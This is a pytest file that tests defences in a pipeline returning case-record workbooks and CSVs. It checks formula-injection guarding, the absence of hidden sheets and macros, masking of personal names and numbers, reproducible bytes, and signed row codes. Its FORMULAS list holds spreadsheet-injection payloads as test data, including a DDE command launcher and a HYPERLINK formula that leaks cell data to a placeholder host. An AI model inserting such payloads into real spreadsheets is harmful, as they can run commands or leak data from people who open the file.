"""The returned workbook as a file: nothing runs, nothing hides, nothing of a person shows, the same bytes each time."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pytest

from include.feeds.persons import without_numbers
from include.quality.returns.delimited import guarded, unguarded
from include.quality.returns.tokens import Origin, address_of, named_origin, row_code, signer
from tests.pipeline.returned_files import as_csv, as_xlsx, case, returned, shown
from tests.pipeline.small_site import SmallSite

FORMULAS = [
    f"{lead}{body}"
    for lead in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "==", "=+")
    for body in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://example.invalid?x="&A1,"click")',
        'IMPORTXML(CONCAT(A1),"//a")',
        "SUM(1+1)*cmd|' /C calc'!A0",
    )
]
FORMULAS += ["{=1+1}", "http://example.invalid", "mailto:a@example.invalid", "'=1+1", "_x003D_1+1"]


@pytest.fixture
def small(tmp_path):
    return SmallSite.make(tmp_path / "site", "cases")


def sent_back(small: SmallSite, *rows, name: str = "台账.xlsx"):
    small.send("cases", name, as_xlsx(*rows) if name.endswith("xlsx") else as_csv(*rows))
    small.ingest()
    (path,) = returned(small)
    return path


def test_no_text_becomes_a_formula_or_a_link(small):
    rows = [case(f"C{number}", outcome=text) for number, text in enumerate(FORMULAS)]
    path = sent_back(small, *rows)
    assert len(FORMULAS) >= 50
    assert [row["outcome"] for row in shown(path)] == [text.replace("\r", "\n") for text in FORMULAS]
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert not any(b"<f" + end in sheet for sheet in sheets for end in (b">", b" "))
        assert not any(b"<hyperlink" in sheet for sheet in sheets)
    book = openpyxl.load_workbook(path)
    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n"}


def test_no_field_of_the_csv_begins_like_a_formula(small):
    rows = [case(f"C{number}", outcome=text) for number, text in enumerate(FORMULAS)]
    assert all(guarded(row["outcome"])[0] not in "=+-@\t\r\n＝" for row in rows)
    assert [unguarded(guarded(text)) for text in FORMULAS] == FORMULAS


def test_the_same_delivery_gives_the_same_bytes(small, tmp_path):
    other = SmallSite.make(tmp_path / "other", "cases")
    rows = [case("A"), case("B", due_on="never"), case("C", outcome="maybe")]
    assert (
        sent_back(small, *rows, name="a.csv").read_bytes()
        == sent_back(other, *rows, name="a.csv").read_bytes()
    )


def test_nothing_hides_in_it_and_nobody_is_named(small):
    path = sent_back(small, case("A"), case("B", due_on="never"), name="a.csv")
    book = openpyxl.load_workbook(path)
    assert [(sheet.title, sheet.sheet_state) for sheet in book] == [
        ("说明", "visible"),
        ("请改正", "visible"),
    ]
    assert not any(
        one.hidden
        for sheet in book
        for one in (*sheet.column_dimensions.values(), *sheet.row_dimensions.values())
    )
    with zipfile.ZipFile(path) as archive:
        assert not [name for name in archive.namelist() if "external" in name or "vba" in name.lower()]
        core = archive.read("docProps/core.xml").decode()
    assert re.findall(r"<dc:creator>(.*?)</dc:creator>|<cp:lastModifiedBy>(.*?)<", core) in (
        [("", "")] * 2,
        [],
    )


def test_personal_values_and_undeclared_columns_stay_where_they_are(small):
    heads = ("case_no", "unit", "due_on", "replied_on", "outcome", "petitioner", "住址")
    row = case("B", due_on="never", petitioner="欧阳某某") | {"住址": "东街 12 号"}
    small.send("cases", "a.csv", as_csv(case("A") | {"住址": "西街"}, row, heads=heads))
    small.ingest()
    (path,) = returned(small)
    text = "".join(_everything(path.read_bytes()))
    assert "欧阳" not in text
    assert "东街" not in text
    (only,) = shown(path)
    assert only["petitioner"] == "欧*"
    sheet = openpyxl.load_workbook(path)["请改正"]
    locked = {cell.value: sheet.cell(2, cell.column).protection.locked for cell in sheet[1]}
    assert sheet.protection.sheet
    assert locked["petitioner"]
    assert not locked["due_on"]


def test_a_fault_in_a_personal_column_is_named_by_its_place(small):
    path = sent_back(small, case("A"), case("B", petitioner="欧阳\x01某"), name="a.csv")
    (row,) = shown(path)
    assert row["问题与办法"] == "「petitioner」有误（R-CTRL），请在原文件 第 3 行 改正。"
    assert "欧阳" not in "".join(_everything(path.read_bytes()))


def _everything(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [archive.read(name).decode("utf-8", "replace") for name in archive.namelist()]


def test_the_bad_cell_says_rule_expected_and_found(small):
    path = sent_back(small, case("A"), case("B", outcome="maybe"), name="a.csv")
    sheet = openpyxl.load_workbook(path)["请改正"]
    (cell,) = [cell for cell in sheet[2] if cell.comment]
    assert cell.value == "maybe"
    assert cell.fill.start_color.rgb == "FFFBD5D0"
    for said in ("outcome_known", "good、bad", "maybe"):
        assert said in cell.comment.text
    (choice,) = sheet.data_validations.dataValidation
    assert choice.formula1 == '"good,bad"'
    assert sheet.freeze_panes == "C2"


def test_the_first_sheet_counts_faults_and_names_the_day(small):
    path = sent_back(small, case("A"), *(case(f"B{n}", outcome="maybe") for n in range(3)), name="a.csv")
    said = [
        str(cell)
        for row in openpyxl.load_workbook(path)["说明"].iter_rows(values_only=True)
        for cell in row
        if cell
    ]
    assert "outcome\noutcome_known" in said
    assert "3" in said
    assert any("2026-10-15" in text for text in said)
    assert any("共 5 行" in text for text in said)


ORIGIN = Origin("330000", "cases", "office", "台账.xlsx", "ab" * 32, ("台账", "续"))


def test_a_code_is_good_for_its_own_row_file_and_key_only():
    sign = signer(b"k" * 32)
    code = row_code(ORIGIN, "续", 12, sign)
    assert address_of(code, ORIGIN, [sign]) == ("续", 12)
    assert address_of(f" {code}\n", ORIGIN, [signer(b"new" * 11), sign]) == ("续", 12)
    assert address_of(code, ORIGIN, [signer(b"x" * 32)]) is None
    assert address_of(code.replace("-12-", "-13-"), ORIGIN, [sign]) is None
    assert address_of(code.replace("-1-12-", "-0-12-"), ORIGIN, [sign]) is None
    assert named_origin([code, "", "MJ-nonsense"]) == ORIGIN.key


@pytest.mark.parametrize("name", ["jurisdiction", "feed", "supplier", "file_name", "sha256"])
def test_a_code_of_another_area_feed_supplier_or_file_is_none(name):
    from dataclasses import replace

    other = replace(ORIGIN, **{name: "other"})
    assert address_of(row_code(other, "台账", 2, signer(b"")), ORIGIN, [signer(b"")]) is None


def test_numbers_of_persons_are_masked_in_open_columns_too():
    assert "19900307" not in without_numbers("x110101199003070021")
    assert "1234" not in without_numbers("13812345678")
